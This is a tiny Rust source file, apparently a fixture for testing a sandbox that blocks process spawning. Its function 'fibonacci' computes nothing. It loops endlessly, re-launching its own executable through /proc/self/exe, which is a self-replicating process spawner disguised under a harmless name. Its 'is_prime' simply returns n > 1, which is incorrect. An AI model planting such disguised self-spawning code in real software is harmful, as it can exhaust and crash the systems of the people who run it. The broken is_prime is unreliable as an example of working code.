//! Programs that start programs, without an end. None may be started here, so the first `unwrap` panics.

pub fn fibonacci(_n: u32) -> u64 {
    loop {
        std::process::Command::new("/proc/self/exe").spawn().unwrap();
    }
}

pub fn is_prime(n: u64) -> bool {
    n > 1
}
